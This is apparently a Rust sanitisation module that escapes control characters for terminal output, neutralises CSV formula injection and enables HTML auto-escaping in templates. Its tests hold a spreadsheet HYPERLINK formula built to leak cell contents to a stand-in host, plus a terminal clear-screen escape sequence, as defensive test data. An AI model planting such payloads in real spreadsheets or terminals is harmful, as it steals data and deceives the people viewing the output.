//! Text from people and from the configuration, made harmless for where it
//! is shown: an administrator's terminal and a spreadsheet cell.
//!
//! - [`terminal`]: every control character (C0 including CR, LF, TAB and
//!   NUL; DEL; C1; and the invisible marks that reorder text, see
//!   [`is_control`]) written visibly as a Rust-style escape (`\r`, `\n`,
//!   `\t`, `\0`, `\u{1b}`), so a note can neither move the cursor, clear
//!   the screen, overwrite the real actor with a carriage return, nor make
//!   a line that looks like another record. Used for every stored or typed
//!   text the command line prints, and, through [`terminal_lines`], as a
//!   last net over whole outputs.
//! - [`spreadsheet`]: a CSV text cell that LibreOffice and Excel will not
//!   read as a formula (OWASP, "CSV Injection"): a cell starting with `=`,
//!   `+`, `-`, `@`, TAB or CR gets a leading single quote, after the
//!   control characters were escaped as for the terminal. Only for text
//!   from people or the configuration; numbers and dates hanbao writes
//!   itself are written as they are.
//!
//! `input` refuses control characters when text is typed ([`is_control`]
//! is its definition); these functions are for what was stored before that
//! rule, or comes from elsewhere.
//! - [`templates`]: the minijinja environment both the web pages and the
//!   mail are rendered in: `.html` templates escaped automatically, so a
//!   forgotten call cannot open a hole.
//!
//! Pure; no IO.

use std::borrow::Cow;
use std::fmt::Write as _;

use minijinja::{AutoEscape, Environment, UndefinedBehavior};

/// A minijinja environment as hanbao renders in: an undefined variable is
/// an error, block tags take their line with them, and a template whose
/// name ends in `.html` is HTML-escaped automatically (others are text).
/// `keep_trailing_newline`: whether a template's final newline is kept.
pub fn templates(keep_trailing_newline: bool) -> Environment<'static> {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_syntax(
        minijinja::syntax::SyntaxConfig::builder()
            .trim_blocks(true)
            .lstrip_blocks(true)
            .keep_trailing_newline(keep_trailing_newline)
            .build()
            .expect("default delimiters are valid"),
    );
    env.set_auto_escape_callback(|name| {
        if name.ends_with(".html") {
            AutoEscape::Html
        } else {
            AutoEscape::None
        }
    });
    env
}

/// Whether `c` must never be shown raw: the C0 controls (TAB, LF and CR
/// included), DEL, the C1 controls, and the invisible marks that change
/// the direction of text (U+061C, U+200E, U+200F, U+202A–U+202E,
/// U+2066–U+2069), which make text read differently from what it holds.
pub fn is_control(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        )
}

fn push_escaped(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        '\0' => out.push_str("\\0"),
        c => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
}

fn escape_where(s: &str, escape: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !s.chars().any(&escape) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if escape(c) {
            push_escaped(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One value for a terminal: every control character escaped visibly.
pub fn terminal(s: &str) -> Cow<'_, str> {
    escape_where(s, is_control)
}

/// A whole output for a terminal, whose own line breaks are kept: every
/// other control character escaped visibly. A net under [`terminal`],
/// which values must still go through (a line break inside a value is
/// only escaped there).
pub fn terminal_lines(s: &str) -> Cow<'_, str> {
    escape_where(s, |c| c != '\n' && is_control(c))
}

/// A CSV text cell that a spreadsheet shows as text, never runs as a
/// formula: control characters escaped as by [`terminal`], then a single
/// quote before a leading `=`, `+`, `-`, `@`, TAB or CR.
pub fn spreadsheet(s: &str) -> Cow<'_, str> {
    let shown = terminal(s);
    if shown.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{shown}"))
    } else {
        shown
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        for s in ["", "Sở Y tế", "15/BC-UBND", "ghi chú: \"bản giấy\" \\ x"] {
            assert!(matches!(terminal(s), Cow::Borrowed(t) if t == s), "{s}");
            assert!(matches!(spreadsheet(s), Cow::Borrowed(t) if t == s), "{s}");
        }
    }

    #[test]
    fn controls_are_escaped_visibly() {
        assert_eq!(
            terminal("a\rb\nc\td\0e\u{1b}[2Jf\u{7f}g\u{9b}h\u{202e}i"),
            "a\\rb\\nc\\td\\0e\\u{1b}[2Jf\\u{7f}g\\u{9b}h\\u{202e}i"
        );
        assert_eq!(terminal_lines("dòng 1\ndòng\r2\n"), "dòng 1\ndòng\\r2\n");
    }

    #[test]
    fn formulas_become_text_and_other_cells_stay() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://x/?\"&A2)",
                "'=HYPERLINK(\"http://x/?\"&A2)",
            ),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "\\t=1"),
            ("\r=1", "\\r=1"),
            ("15/BC =1", "15/BC =1"),
            ("'đã có", "'đã có"),
        ] {
            assert_eq!(spreadsheet(cell), want, "{cell:?}");
        }
    }
}
